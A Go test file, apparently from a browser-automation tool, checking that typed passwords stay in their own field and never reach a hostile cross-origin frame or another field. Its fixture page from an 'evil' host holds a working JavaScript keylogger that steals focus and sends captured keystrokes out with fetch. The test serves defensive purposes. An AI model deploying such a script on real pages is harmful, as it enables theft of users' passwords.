package chrome

import (
	"strings"
	"testing"
)

// A frame of another host that takes the focus again and again gets nothing of
// what is typed; neither does another field of the page.
func TestTypingStaysInItsField(t *testing.T) {
	const typed = "canary-password-0123456789"
	s := newSite(t)
	s.page(evil+"/thief", `<input id=loot><script>
		const told = new Set(), tell = v => { if (v && !told.has(v)) { told.add(v); fetch('/told?' + encodeURIComponent(v)) } };
		addEventListener('keydown', e => tell(e.key.length === 1 ? e.key : ''), true);
		setInterval(() => { window.focus(); loot.focus(); tell(loot.value) }, 0)</script>`)
	s.page(shop+"/frame", `<label>Password <input id=in type=password></label><p><iframe src="https://`+evil+`/thief" width=300 height=100></iframe>`)
	s.page(shop+"/jumps", `<label>Password <input id=in type=password></label><label>Find <input id=other></label><script>
		document.getElementById('in').addEventListener('input', e => { if (e.target.value.length % 3 == 0) other.focus() })</script>`)
	r := launch(t, s)
	r.proxy.listed = func(string) bool { return true } // the thief's page may be there: frames of others may
	for _, path := range []string{"/frame", "/frame", "/frame", "/jumps"} {
		r.open(shop + path)
		if path == "/frame" {
			r.see("#loot")
		}
		r.do("#in", text(typed))
		if got := r.read("#in"); got != typed {
			t.Errorf("%s: the field holds %q", path, got)
		}
	}
	if got := r.read("#other"); got != "" {
		t.Errorf("another field holds %q", got)
	}
	for _, v := range s.visited(evil) {
		if strings.Contains(v, "told") {
			t.Errorf("the other host was told %q", v)
		}
	}
	// What a field does not take at all is not typed elsewhere instead.
	s.page(shop+"/refuses", `<input id=in onfocus="other.focus()"><input id=other>`)
	r.open(shop + "/refuses")
	if err := r.Do(t.Context(), r.see("#in").ID, text(typed)); err == nil {
		t.Error("a field that gives the focus away was typed into")
	}
	if got := r.read("#other"); got != "" {
		t.Errorf("another field holds %q", got)
	}
}
